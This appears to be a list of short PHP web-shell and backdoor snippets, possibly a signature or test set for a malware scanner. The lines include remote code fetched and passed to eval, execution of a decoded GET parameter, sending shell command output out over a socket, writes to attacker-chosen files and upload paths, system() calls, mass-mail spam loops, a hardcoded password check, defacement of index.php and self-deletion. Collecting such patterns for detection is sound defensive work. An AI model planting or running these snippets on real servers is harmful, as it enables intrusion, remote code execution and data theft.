<?php Unlink( $_SERVER['SCRIPT_FILENAME'] ); ?>
<?php $c = File_Get_Contents("http://" . "example.invalid/c.txt"); eval($c); ?>
<?php Copy('http://example.invalid/x.txt', 'x.php'); ?>
<?php $p = Base64_Decode( $_GET['p'] ); file_put_contents('t.html', "<?php\n" . $p); require 't.html'; ?>
<?php @include($f); @unlink($f); ?>
<?php $s = fsockopen($h, 443); $o = Shell_Exec('id'); fwrite($s, $o); ?>
<?php mail( base64_decode("dGVzdEBleGFtcGxlLmludmFsaWQ="), 'c', $data ); ?>
<?php foreach (explode("\n", $_POST['emails']) as $to) Mail($to, $s, $m); ?>
<?php $fp = fopen( $_POST['file'], 'w' ); fwrite($fp, $_POST['text']); ?>
<?php $fp = FOpen({$_POST['f']}, 'a'); ?>
<?php echo httpcopy( "http://example.invalid/a.txt" ); ?>
<?php $h = fopen( "index.php" , "w" ); fputs($h, $page); ?>
<?php $dir = $_REQUEST["path"] . $n; move_uploaded_file($_FILES['f']['tmp_name'], $dir); ?>
<?php $d = GetCwd() . "/"; Move_Uploaded_File($_FILES['u']['tmp_name'], $d . basename($_FILES['u']['name'])); ?>
<?php system( $currentCMD ); ?>
<?php $sites = lookup("ip:$target /?p="); ?>
<?php if ($dh = opendir($dir)) { } ?><input name="dir" value="c:/">
<?php if ($_REQUEST['password'] == '5f4dcc3b5aa765d61d8327deb882cf99') echo 1; ?>
<?php echo shell_exec('rm ' . __FILE__) ? 'autodestruct' : ''; ?>
